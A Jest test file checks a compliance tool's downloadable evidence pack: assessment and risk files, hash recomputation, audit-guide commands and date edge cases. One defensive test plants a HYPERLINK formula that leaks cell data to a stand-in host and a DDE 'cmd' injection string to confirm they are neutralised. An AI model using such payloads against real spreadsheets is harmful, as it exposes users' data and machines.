import canonicalize from 'canonicalize';
import { createHash } from 'node:crypto';
import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { bearer, createTestApp, givenUser, TestApp, TestUser } from './support';
import { downloadPack } from './support/evidence-pack';
import { answersFor, currentTemplate, givenApprovedAssessment } from './support/impact-assessment';
import { givenReviewWorld, givenUseCaseAt, ReviewWorld } from './support/review-world';
import { runCommand } from './support/run-command';

/** What a hostile but signed-in user can put into a pack, and whether an auditor can follow VERIFY.md as written. */
describe('the evidence pack, read by an auditor', () => {
  let t: TestApp;
  let world: ReviewWorld;
  let officer: TestUser;
  let work: string;

  beforeAll(async () => {
    t = await createTestApp();
    world = await givenReviewWorld(t);
    officer = await givenUser(t, { roles: ['compliance_officer'] });
    work = await mkdtemp(path.join(tmpdir(), 'gatehouse-pack-content-'));
  });
  afterAll(async () => {
    await rm(work, { recursive: true, force: true });
    await t.close();
  });

  const pack = (query: Record<string, string>, name: string) => downloadPack(t, officer.token, work, query, name);
  const get = async (route: string) => (await t.http().get(route).set(bearer(world.opener.token)).expect(200)).body;
  const displayName = async (user: TestUser): Promise<string> => (await t.dataSource.query('SELECT display_name FROM users WHERE id = $1', [user.id]))[0].display_name;
  const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');

  const RISK = {
    description: 'Claims may be routed to the wrong handler',
    category: 'fairness',
    severity: 3,
    likelihood: 3,
    mitigation: 'A handler reviews every routing',
    residualSeverity: 2,
    residualLikelihood: 2,
    treatment: 'accept',
    owner: 'Head of claims',
  };

  /**
   * A use case whose impact assessment was drafted, redrafted and approved
   * (two revisions, legal2 approving), with one risk treated by acceptance and
   * accepted by legal.
   */
  async function givenTreatedUseCase() {
    const useCaseId = await givenUseCaseAt(t, world, 'minimal');
    const added = await t.http().post(`/api/use-cases/${useCaseId}/risks`).set(bearer(world.opener.token)).send(RISK).expect(201);
    const risk = added.body.content.risks.at(-1) as { id: string };
    const template = await currentTemplate(t, world.opener.token);
    await t.http().put(`/api/use-cases/${useCaseId}/impact-assessment`).set(bearer(world.opener.token))
      .send({ templateVersion: template.version, answers: answersFor(template.document, 'first draft') }).expect(200);
    await givenApprovedAssessment(t, useCaseId, world.opener, world.legal2);
    const accepted = await t.http().post(`/api/use-cases/${useCaseId}/risks/${risk.id}/acceptance`).set(bearer(world.legal.token))
      .send({ role: 'legal', comment: 'Proportionate to the benefit; reviewed every quarter.' }).expect(201);
    return { useCaseId, riskId: risk.id, acceptance: accepted.body as Record<string, unknown> };
  }

  /** The two treatment files of a use case in a downloaded pack. */
  async function treatmentFiles(downloaded: Awaited<ReturnType<typeof pack>>, useCaseId: string) {
    return {
      assessment: JSON.parse(await downloaded.text(`use-cases/${useCaseId}/impact-assessment.json`)),
      risks: JSON.parse(await downloaded.text(`use-cases/${useCaseId}/risks.json`)),
    };
  }

  /** A risk of risks.json as GET /api/use-cases/:id reports its treatment (riskTreatment), the decider's name aside. */
  const asRiskTreatment = (risk: Record<string, any>) => ({
    riskId: risk.id,
    treatment: risk.treatment,
    owner: risk.owner,
    scoredOn: risk.scoredOn,
    score: risk.score,
    acceptance: risk.acceptance && withoutKeys(risk.acceptance, ['deciderName']),
    awaitingAcceptance: risk.awaitingAcceptance,
  });

  it('holds the approved impact assessment and the accepted risk of a use case exactly as the API reports them', async () => {
    const { useCaseId, riskId, acceptance } = await givenTreatedUseCase();
    const assessment = await get(`/api/use-cases/${useCaseId}/impact-assessment`);
    const detail = await get(`/api/use-cases/${useCaseId}`);
    const [openerName, legalName, legal2Name] = await Promise.all([displayName(world.opener), displayName(world.legal), displayName(world.legal2)]);
    const downloaded = await pack({}, 'treated');
    const files = await treatmentFiles(downloaded, useCaseId);

    // impact-assessment.json: the assessment as the API gives it, with each revision's answers and each decision's scope besides.
    const readAt = { id: useCaseId, revision: detail.revision, contentHash: detail.contentHash, tier: detail.tier };
    expect(files.assessment.useCase).toEqual(readAt);
    expect(files.assessment.standing).toEqual({ state: 'approved', reasons: [] });
    expect(files.assessment.standing).toEqual(assessment.standing);
    const { revisions, decisions, approval, ...held } = files.assessment.assessment;
    expect(held).toEqual(withoutKeys(assessment, ['useCaseId', 'unanswered', 'standing', 'revisions', 'decisions', 'approval']));
    expect(revisions).toHaveLength(2);
    expect(revisions.map((r: Record<string, unknown>) => withoutKeys(r, ['answers', 'authorName']))).toEqual(assessment.revisions);
    expect(revisions.map((r: Record<string, unknown>) => r.authorName)).toEqual([openerName, openerName]);
    expect(revisions[1].answers).toEqual(assessment.answers);
    expect(revisions[0].answers).not.toEqual(assessment.answers);
    const scope = { intendedUse: detail.content.intendedUse, stakeholders: detail.content.stakeholders, inputs: detail.content.inputs, outputs: detail.content.outputs };
    expect(decisions).toEqual([{ ...assessment.approval, deciderName: legal2Name, scope }]);
    expect(decisions.map((d: Record<string, unknown>) => withoutKeys(d, ['deciderName', 'scope']))).toEqual(assessment.decisions);
    expect(approval).toEqual(decisions[0]);
    expect(approval).toMatchObject({ decision: 'approve', role: 'legal', decidedBy: world.legal2.id, revision: 2, tier: detail.tier });

    // risks.json: the risk as recorded, its treatment as the API reports it, and legal's acceptance covering it.
    const covering = { ...acceptance, deciderName: legalName };
    expect(files.risks.useCase).toEqual(readAt);
    expect(files.risks.risks).toEqual([
      { id: riskId, ...RISK, status: 'open', scoredOn: 'residual', score: 4, acceptance: covering, awaitingAcceptance: false },
    ]);
    expect(files.risks.risks.map(asRiskTreatment)).toEqual(detail.riskTreatment);
    expect(files.risks.risks.map((r: Record<string, unknown>) => withoutKeys(r, ['scoredOn', 'score', 'acceptance', 'awaitingAcceptance']))).toEqual(detail.content.risks);
    expect(files.risks.acceptances).toEqual([covering]);
    expect(acceptance).toMatchObject({ riskId, role: 'legal', decidedBy: world.legal.id, severity: 3 });

    // Both are listed, hashed, in the signed manifest; the report says where the assessment stands.
    const manifest = JSON.parse(await downloaded.text('manifest.json'));
    for (const name of [`use-cases/${useCaseId}/impact-assessment.json`, `use-cases/${useCaseId}/risks.json`]) {
      const bytes = await downloaded.read(name);
      expect(manifest.files).toContainEqual({ path: name, sha256: sha256(bytes), bytes: bytes.length });
    }
    expect(await downloaded.text('report.html')).toMatch(new RegExp(`${useCaseId}</small></h3>\n<p>[^\n]*</p>\n<p>Impact assessment <b>approved</b>\.</p>`));
  });

  it('after the team edits an accepted risk, shows it awaiting acceptance with the old acceptance still on record, and a changed scope leaves the approval stale', async () => {
    const { useCaseId, riskId, acceptance } = await givenTreatedUseCase();
    await t.http().put(`/api/use-cases/${useCaseId}/risks/${riskId}`).set(bearer(world.opener.token)).send({ ...RISK, likelihood: 4 }).expect(200);
    await t.http().patch(`/api/use-cases/${useCaseId}`).set(bearer(world.opener.token)).send({ intendedUse: 'Route claims and draft the replies to claimants.' }).expect(200);
    const assessment = await get(`/api/use-cases/${useCaseId}/impact-assessment`);
    const detail = await get(`/api/use-cases/${useCaseId}`);
    const downloaded = await pack({}, 'edited');
    const files = await treatmentFiles(downloaded, useCaseId);

    expect(files.risks.useCase).toMatchObject({ revision: detail.revision, contentHash: detail.contentHash });
    expect(files.risks.risks).toEqual([
      { id: riskId, ...RISK, likelihood: 4, status: 'open', scoredOn: 'residual', score: 4, acceptance: null, awaitingAcceptance: true },
    ]);
    expect(files.risks.risks.map(asRiskTreatment)).toEqual(detail.riskTreatment);
    expect(files.risks.acceptances).toEqual([{ ...acceptance, deciderName: await displayName(world.legal) }]);

    expect(assessment.standing.state).toBe('stale');
    expect(files.assessment.standing).toEqual(assessment.standing);
    expect(files.assessment.assessment.approval).toMatchObject({ id: assessment.approval.id, scope: expect.objectContaining({ intendedUse: expect.not.stringContaining('draft the replies') }) });
    expect(await downloaded.text('report.html')).toMatch(new RegExp(`${useCaseId}</small></h3>\n<p>[^\n]*</p>\n<p>Impact assessment <b>stale</b>\. The use case&#39;s intended use changed`));
  });

  it('writes impact-assessment.json and risks.json for every use case, with the standing none where there is no assessment', async () => {
    const useCaseId = await givenUseCaseAt(t, world, 'limited');
    const detail = await get(`/api/use-cases/${useCaseId}`);
    const downloaded = await pack({}, 'unassessed');
    const files = await treatmentFiles(downloaded, useCaseId);

    expect(detail.impactAssessment.state).toBe('none');
    expect(files.assessment).toEqual({
      useCase: { id: useCaseId, revision: detail.revision, contentHash: detail.contentHash, tier: 'limited' },
      assessment: null,
      standing: { state: 'none', reasons: detail.impactAssessment.reasons },
    });
    expect(files.risks.risks).toEqual([expect.objectContaining({ treatment: null, owner: null, severity: 2, likelihood: 3, residualSeverity: null, residualLikelihood: null, scoredOn: 'inherent', score: 6, acceptance: null, awaitingAcceptance: false })]);
    expect(files.risks.risks.map(asRiskTreatment)).toEqual(detail.riskTreatment);
    expect(files.risks.acceptances).toEqual([]);

    // Every use case of the inventory has both files beside its dossier.
    const listed = await downloaded.files();
    const inventory = (await downloaded.text('inventory.csv')).trim().split('\n').slice(1).map((line) => line.split(',')[0]);
    expect(inventory).toContain(useCaseId);
    for (const id of inventory) {
      expect(listed).toEqual(expect.arrayContaining([`use-cases/${id}/dossier.json`, `use-cases/${id}/impact-assessment.json`, `use-cases/${id}/risks.json`]));
    }
  });

  it('lets an auditor recompute the content hash of every assessment revision in the pack from its answers', async () => {
    const { useCaseId } = await givenTreatedUseCase();
    const downloaded = await pack({}, 'hashes');
    const names = (await downloaded.files()).filter((name) => /^use-cases\/[^/]+\/impact-assessment\.json$/.test(name));
    expect(names).toContain(`use-cases/${useCaseId}/impact-assessment.json`);
    let recomputed = 0;
    for (const name of names) {
      const { assessment } = JSON.parse(await downloaded.text(name));
      if (!assessment) continue;
      for (const revision of assessment.revisions as { templateVersion: number; answers: unknown; contentHash: string }[]) {
        // SHA-256 (hex) of the RFC 8785 canonical JSON of { templateVersion, answers }.
        expect(sha256(canonicalize({ templateVersion: revision.templateVersion, answers: revision.answers })!)).toBe(revision.contentHash);
        recomputed++;
      }
      // The working revision and every decision name a revision whose hash the file holds.
      expect(assessment.revisions.at(-1)).toMatchObject({ revision: assessment.revision, contentHash: assessment.contentHash, answers: assessment.answers });
      for (const decision of assessment.decisions as { revision: number; contentHash: string }[]) {
        expect(assessment.revisions.find((r: { revision: number }) => r.revision === decision.revision)?.contentHash).toBe(decision.contentHash);
      }
    }
    expect(recomputed).toBeGreaterThanOrEqual(2);
  });

  it('neutralises spreadsheet formulas in its CSV files, and escapes HTML in its report', async () => {
    const useCaseId = await givenUseCaseAt(t, world, 'minimal');
    const title = '=HYPERLINK("https://evil.example/?"&A1,"<b>click</b>")';
    await t.http().patch(`/api/use-cases/${useCaseId}`).set(bearer(world.opener.token)).send({ title }).then((r) => {
      if (r.status >= 300) throw new Error(`${r.status} ${JSON.stringify(r.body)}`);
    });
    const soa = (await t.http().get('/api/compliance/iso42001/soa').set(bearer(officer.token)).expect(200)).body;
    await t.http().patch('/api/compliance/iso42001/soa/controls/A.2.2').set(bearer(officer.token))
      .send({ basedOnVersion: soa.version, applicable: false, justification: '+cmd|" /C calc"!A0' }).expect(200);
    const downloaded = await pack({}, 'hostile');
    expect(downloaded.status).toBe(200);
    const inventory = await downloaded.text('inventory.csv');
    const soaCsv = await downloaded.text('soa.csv');
    for (const csv of [inventory, soaCsv, await downloaded.text('roles.csv')]) {
      // No cell, quoted or not, begins with a character a spreadsheet reads as the start of a formula.
      expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    }
    expect(inventory).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""<b>click</b>"")"`);
    expect(soaCsv).toContain(`'+cmd|`);
    const report = await downloaded.text('report.html');
    expect(report).not.toContain('<b>click</b>');
    expect(report).toContain('&lt;b&gt;click&lt;/b&gt;');
    // The JSON files keep the text as it was entered.
    expect(JSON.parse(await downloaded.text(`use-cases/${useCaseId}/dossier.json`)).useCase.title).toBe(title);
  });

  it('VERIFY.md, followed literally, verifies the manifest with openssl and the trail with the independent verifier', async () => {
    const downloaded = await pack({}, 'literal');
    const published = (await t.http().get('/api/audit/public-key').set(bearer(officer.token)).expect(200)).body;
    await writeFile(path.join(downloaded.dir, 'gatehouse-public-key.pem'), published.publicKey);
    const guide = await downloaded.text('audit-trail/VERIFY.md');
    // The auditor fetched Gatehouse's independent verifier from its source repository, as step 3 says.
    await copyFile(path.join(__dirname, 'support', 'verify_audit_export.py'), path.join(downloaded.dir, 'verify_audit_export.py'));
    const commands = guide.split('\n').filter((line) => /^ {7}(node|openssl|python3) /.test(line)).map((line) => line.trim());
    expect(commands).toHaveLength(3);
    for (const command of commands) {
      const run = await runCommand('sh', ['-c', `cd '${downloaded.dir}' && ${command}`]);
      expect({ command, output: run.output.trim(), code: run.code }).toEqual({ command, output: expect.stringMatching(/Signature Verified Successfully|^$|^intact up to seq \d+, head hash [0-9a-f]{64}$/), code: 0 });
    }
  });

  // (An expanded year such as +010000 is not strict ISO 8601: it is refused before any pack is made.)
  it.each([['1900-01-01T00:00:00Z'], ['9999-12-31T23:59:59Z']])('a period ending at %s still makes a pack any unzip tool opens', async (to) => {
    const downloaded = await pack({ to }, `to-${to.slice(0, 6)}`);
    expect({ status: downloaded.status, unzipped: downloaded.unzipped }).toEqual({ status: 200, unzipped: true });
    expect(JSON.parse(await downloaded.text('manifest.json')).period.to).toBe(new Date(to).toISOString());
  });
});

function withoutKeys(value: Record<string, unknown>, keys: string[]): Record<string, unknown> {
  return Object.fromEntries(Object.entries(value).filter(([key]) => !keys.includes(key)));
}
